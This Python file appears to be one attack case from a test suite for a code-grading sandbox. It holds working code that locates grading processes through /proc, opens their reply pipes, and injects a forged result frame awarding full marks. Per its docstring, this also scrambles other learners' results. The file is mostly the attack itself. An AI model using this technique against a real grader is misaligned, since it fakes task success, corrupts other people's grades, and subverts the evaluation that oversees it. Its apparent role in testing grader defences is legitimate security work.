"""Rewriting grades: find this run's grading processes through /proc and write a forged result
frame into each one's reply pipe (`/proc/<pid>/fd/<n>`, opened through a directory fd). The
parent reads it as the answer to the submission it is waiting for: this attacker's own (full
marks), and whoever another grading process is busy with; the true answers then land one
learner later. Every forged case carries the run's marker in its message."""

import json
import os
import struct

import attack_common as common

ATTACK = "forge-reply-frame"


def forged_frame():
    cases = [
        {
            "name": f"forged case {n}",
            "status": "passed",
            "passed": True,
            "points": 1,
            "max_points": 1,
            "message": f"forged-{common.MARKER}",
            "hint": "",
            "hidden": False,
            "duration_s": 0.0,
        }
        for n in range(1, 9)
    ]
    result = {
        "exercise": common.EXERCISE,
        "status": "passed",
        "score": 8,
        "max_score": 8,
        "duration_s": 0.1,
        "message": None,
        "hidden_cases": 0,
        "cases": cases,
    }
    body = json.dumps({"result": result}, separators=(",", ":")).encode("ascii")
    return struct.pack(">I", len(body)) + body  # under PIPE_BUF: written in one piece


def attack():
    frame = forged_frame()
    written = 0
    for pid, reply_fd in common.grading_processes():
        try:
            folder = os.open(f"/proc/{pid}/fd", os.O_RDONLY | os.O_DIRECTORY)
        except OSError:
            continue
        try:
            fd = os.open(str(reply_fd), os.O_WRONLY, dir_fd=folder)
        except OSError:
            continue
        finally:
            os.close(folder)
        try:
            written += os.write(fd, frame) == len(frame)
        except OSError:
            pass
        finally:
            os.close(fd)
    return written > 0


FORGED = common.attempt(attack)


def handler(event, context):
    return common.blocked(event)
